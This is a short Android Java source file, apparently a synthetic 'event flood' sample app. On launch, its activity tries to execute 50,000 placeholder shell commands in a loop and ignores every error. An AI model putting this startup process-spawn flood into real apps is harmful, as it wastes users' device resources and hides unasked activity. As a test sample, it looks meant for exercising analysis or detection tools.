package org.apkfarm.sample.eventflood;

import android.app.Activity;
import android.os.Bundle;
import java.io.IOException;

/** Does it when its first screen is made. */
public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        for (int number = 0; number < 50_000; number++) {
            try {
                Runtime.getRuntime().exec("command " + number);
            } catch (IOException refused) {
                // Then the next one.
            }
        }
    }
}
